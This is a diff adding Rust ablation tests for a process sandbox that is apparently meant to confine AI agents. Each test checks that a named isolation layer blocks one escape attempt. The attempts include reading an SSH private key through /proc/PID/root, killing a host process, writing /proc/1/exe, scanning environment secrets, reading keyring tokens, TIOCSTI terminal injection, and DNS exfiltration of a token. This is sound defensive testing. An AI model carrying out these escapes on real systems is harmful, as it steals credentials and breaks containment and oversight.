@@ -143,3 +143,111 @@ fn ablation_host_loopback() {
         |_| argv!["tcp-connect", "127.0.0.1", 9999],
     );
 }
+
+// Attacks held by layers the switch cannot turn off (pid namespace,
+// non-dumpable init, fd sweep, environment scrub): claimed = [], so no
+// single switch may let them through.
+
+#[test]
+fn ablation_proc_root_of_host_process() {
+    ablate("A7-proc-root-host-process", DENY_HOME, &[], |l| {
+        argv![
+            "read-file",
+            format!("/proc/{}/root{}", l.canary_pid(), l.home(".ssh/id_ed25519"))
+        ]
+    });
+}
+
+#[test]
+fn ablation_kill_host_canary() {
+    ablate("C3-kill-host-canary", DENY_HOME, &[], |l| {
+        argv!["kill", l.canary_pid()]
+    });
+}
+
+#[test]
+fn ablation_proc1_exe_write() {
+    ablate("B4-proc1-exe", HOME_READABLE, &[], |_| {
+        argv!["open-write", "/proc/1/exe"]
+    });
+}
+
+#[test]
+fn ablation_inherited_fds() {
+    let opts = RunOptions {
+        leak_fds: true,
+        ..RunOptions::default()
+    };
+    ablate_with("C6-inherited-fds", DENY_HOME, &[], &opts, |_| {
+        argv!["fds-inherited"]
+    });
+}
+
+#[test]
+fn ablation_secret_env() {
+    ablate("G1-secret-env", DENY_HOME, &[], |_| argv!["env-scan"]);
+}
+
+#[test]
+fn ablation_mcp_json() {
+    ablate("B2-mcp-json", HOME_READABLE, &["mounts"], |l| {
+        argv!["write-file", "create", l.ws(".mcp.json")]
+    });
+}
+
+#[test]
+fn ablation_keyring_canary() {
+    ablate_keyring();
+}
+
+fn ablate_keyring() {
+    let token_desc = |l: &Lab| format!("oaj_canary_{}", l.token);
+    // The key description must match the lab's token, so options are built per lab.
+    let mut without = Vec::new();
+    for layer in LAYERS {
+        let mut lab = Lab::new(&format!("D7-keyring-canary-no-{layer}"));
+        let desc = token_desc(&lab);
+        let opts = RunOptions {
+            keyring_desc: Some(desc.clone()),
+            ..RunOptions::default()
+        };
+        let run = lab.jailed_without(layer, DENY_HOME, &["keyctl-read", &desc], &opts);
+        let (j, detail) = judge_run(&mut lab, &run);
+        without.push(((*layer).to_owned(), j, detail));
+    }
+    assert_ablation(&AblationRecord {
+        id: "D7-keyring-canary".into(),
+        claimed: vec!["seccomp".into()],
+        without,
+        uid: nix::unistd::getuid().as_raw(),
+    });
+}
+
+#[test]
+fn ablation_tiocsti() {
+    let opts = RunOptions {
+        pty: true,
+        ..RunOptions::default()
+    };
+    ablate_with("C7-tiocsti", DENY_HOME, &["seccomp"], &opts, |_| {
+        argv!["tiocsti"]
+    });
+}
+
+#[test]
+fn ablation_dns_to_public_resolver() {
+    ablate("E3-dns-public-resolver", DENY_HOME, &["netns"], |l| {
+        argv![
+            "dns-query",
+            labspec::PUBLIC_DNS_V4,
+            format!("{}.exfil.test", l.token)
+        ]
+    });
+}
+
+#[test]
+fn ablation_exotic_socket_families() {
+    ablate("E6-exotic-families", DENY_HOME, &["seccomp"], |_| {
+        argv!["socket-families"]
+    });
+}
